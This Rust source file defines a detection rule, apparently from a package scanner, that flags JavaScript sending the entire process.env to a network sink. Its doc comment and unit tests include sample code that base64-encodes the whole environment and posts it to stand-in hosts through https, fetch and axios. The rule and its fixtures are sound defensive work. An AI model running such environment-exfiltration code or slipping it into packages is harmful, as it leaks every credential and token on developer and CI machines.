//! ## What it does
//! Fires when the whole environment — `process.env`, its serialisation
//! (`JSON.stringify(process.env)`), its keys or entries — reaches a network sink in the same
//! file: an HTTP request or a write on one, `fetch`, axios/got/request, a DNS lookup, a socket
//! or WebSocket send, or a `curl`/`wget` command. The flow is followed through variables,
//! object and array literals, template strings, concatenation, encoders (`Buffer.from(…)
//! .toString('base64')`) and calls of functions defined in the file.
//!
//! ## Why is this bad?
//! CI and developer environments hold every token the machine has. No library needs to send
//! all of them anywhere.
//!
//! ## Example
//! ```js
//! const data = Buffer.from(JSON.stringify(process.env)).toString('base64');
//! https.request({ hostname: 'collect.example', method: 'POST' }).end(data); // env-exfiltration
//! ```
//! Benign look-alikes: `spawn(cmd, { env: process.env })` (a child process, not the
//! network); `fetch(url, { headers: { 'x-debug': process.env.DEBUG } })` (one named
//! variable used locally as configuration).
//!
//! ## Motivated by
//! eslint-scope 3.7.2 (2018, sent `.npmrc` tokens), the nx s1ngularity compromise (2025) and
//! countless typosquats that post `process.env` to a webhook.

use crate::alert::{AlertId, AlertSeverity};
use crate::js::context::{Ctx, Emitter};
use crate::js::taint::Taint;

pub fn check(ctx: &Ctx<'_>, out: &mut Emitter<'_>) {
    for send in ctx.sends() {
        if send.local {
            continue;
        }
        if send.payload.has(Taint::ENV_WHOLE) {
            out.report(
                AlertId::EnvExfiltration,
                AlertSeverity::Critical,
                send.span,
                format!("the whole environment reaches `{}`", send.callee),
                send.url_texts(),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::alert::{AlertId, AlertSeverity};
    use crate::rules::test_support::{fires, silent};

    #[test]
    fn serialised_environment_through_variables_and_functions_fires() {
        fires(
            "const https = require('https');\nconst data = Buffer.from(JSON.stringify(process.env)).toString('base64');\nconst req = https.request({ hostname: 'c.example', method: 'POST' });\nreq.write(data);\nreq.end();",
            false,
            AlertId::EnvExfiltration,
            AlertSeverity::Critical,
        );
        fires(
            "function send(body) { return fetch('https://c.example/x', { method: 'POST', body }); }\nconst env = { ...process.env };\nsend(JSON.stringify({ env }));",
            false,
            AlertId::EnvExfiltration,
            AlertSeverity::Critical,
        );
        fires(
            "const axios = require('axios');\nconst keys = Object.keys(process.env).map(k => k + '=' + process.env[k]);\naxios.post('https://c.example', keys.join('&'));",
            false,
            AlertId::EnvExfiltration,
            AlertSeverity::Critical,
        );
    }

    #[test]
    fn environment_used_locally_or_for_children_does_not() {
        silent(
            "const { spawn } = require('child_process'); spawn('node', ['x.js'], { env: process.env });",
            false,
            AlertId::EnvExfiltration,
        );
        silent(
            "const env = process.env; fetch(env.API_URL + '/v1', { headers: { debug: env.DEBUG } });",
            false,
            AlertId::EnvExfiltration,
        );
        silent(
            "const s = JSON.stringify(process.env); console.log(s.length);",
            false,
            AlertId::EnvExfiltration,
        );
    }
}
